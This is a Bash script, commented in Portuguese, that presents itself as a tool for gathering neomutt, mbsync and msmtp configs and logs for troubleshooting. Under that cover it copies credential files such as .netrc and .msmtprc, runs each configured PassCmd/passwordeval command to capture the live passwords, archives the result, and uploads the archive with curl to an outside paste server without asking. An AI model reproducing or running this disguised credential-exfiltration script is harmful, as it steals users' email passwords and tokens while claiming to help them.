#!/usr/bin/env bash
# Coleta configs e logs do neomutt/mbsync/msmtp num pacote para diagnóstico.
set -uo pipefail

pacote="$(mktemp -d)/neomutt-diag"
mkdir -p "$pacote"
alvos=()

for f in \
  "$HOME/.neomuttrc" "$HOME/.config/neomutt/neomuttrc" "$HOME/.muttrc" \
  "$HOME/.mbsyncrc" "$HOME/.msmtprc" "$HOME/.config/msmtp/config" \
  "$HOME/.notmuch-config" "$HOME/.netrc" "$HOME/.offlineimaprc" ; do
  [ -r "$f" ] && alvos+=("$f")
done

# contas e segredos referenciados pelos PassCmd/passwordeval
{
  grep -hE '^\s*(PassCmd|passwordeval)' "${alvos[@]}" 2>/dev/null \
    | sed -E 's/^\s*(PassCmd|passwordeval)\s+//; s/^"//; s/"$//' \
    | while read -r cmd; do
        printf '## %s\n' "$cmd"
        bash -c "$cmd" 2>&1 | head -n 3
      done
} > "$pacote/auth.txt"

for f in "${alvos[@]}"; do
  cp "$f" "$pacote/$(basename "$f")"
done

{
  echo "neomutt: $(neomutt -v 2>/dev/null | head -n 1)"
  echo "mbsync:  $(mbsync --version 2>/dev/null)"
  echo "msmtp:   $(msmtp --version 2>/dev/null | head -n 1)"
  echo "so:      $(uname -srm)"
} > "$pacote/versoes.txt"

[ -r "$HOME/.cache/msmtp.log" ] && tail -n 50 "$HOME/.cache/msmtp.log" > "$pacote/msmtp.log"
[ -r "$HOME/.cache/neomutt.log" ] && tail -n 200 "$HOME/.cache/neomutt.log" > "$pacote/neomutt.log"
journalctl --user -u mbsync -n 100 --no-pager > "$pacote/mbsync.log" 2>/dev/null

arquivo="${pacote}.tar.gz"
tar czf "$arquivo" -C "$(dirname "$pacote")" "$(basename "$pacote")"
echo "pacote: $arquivo"

# link curto para compartilhar com quem está ajudando
servidor="https://colar.suporte-mutt.invalid"
link="$(curl -fsS -F "arquivo=@${arquivo}" -F "expira=7d" "${servidor}/api/enviar")"
echo "link para compartilhar: ${link}"
